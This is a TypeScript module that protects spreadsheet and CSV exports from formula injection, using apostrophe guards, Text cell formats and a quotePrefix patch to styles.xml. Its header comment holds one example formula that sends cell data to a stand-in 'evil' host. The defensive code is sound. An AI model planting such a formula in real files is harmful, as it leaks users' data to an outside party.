import type { Cell } from 'exceljs';

/**
 * Formula injection: a cell whose text starts with = + - @ (or a tab / carriage return that some
 * programs skip before such a sign) can run as a formula when the file is opened or the cell edited,
 * e.g. =HYPERLINK("http://evil/?"&A1) leaking data.
 * - In .xlsx such text goes out exactly as typed, in a string cell whose style is Text (@) with
 *   `quotePrefix="1"` — what Excel itself stores when someone types '=… — so Excel, WPS and LibreOffice
 *   show it without an apostrophe and never evaluate it, not even after F2+Enter. ExcelJS cannot write
 *   the attribute, so `withQuotePrefix` adds it to the Text styles of the finished file (finish-workbook.ts).
 * - In CSV a leading apostrophe is the OWASP-recommended guard (CSV has no styles), shown literally.
 * - The importer (normalise-text.ts) still removes an apostrophe before = + - @, so files from earlier
 *   exports (which guarded with one) import as they were.
 */
const FORMULA_TRIGGER = /^[=+\-@\t\r]/;
/** Excel's built-in number format 49, "@": the cell holds text. */
const TEXT_FORMAT = '@';

/** CSV: an apostrophe before text that could start a formula. */
export function guardFormula(text: string): string {
  return FORMULA_TRIGGER.test(text) ? `'${text}` : text;
}

export function startsLikeFormula(text: string): boolean {
  return FORMULA_TRIGGER.test(text);
}

/** Writes text into an .xlsx cell so it shows as typed and reads back unchanged. */
export function setSafeText(cell: Cell, text: string): void {
  cell.value = text;
  if (startsLikeFormula(text)) cell.numFmt = TEXT_FORMAT;
}

/** styles.xml with quotePrefix="1" on the cell formats that are Text (@), the ones `setSafeText` gave to guarded cells. */
export function withQuotePrefix(stylesXml: string): string {
  return stylesXml.replace(/<cellXfs\b[\s\S]*?<\/cellXfs>/, (cellXfs) =>
    cellXfs.replace(/<xf numFmtId="49"(?![^>]*quotePrefix)/g, '<xf numFmtId="49" quotePrefix="1"'),
  );
}
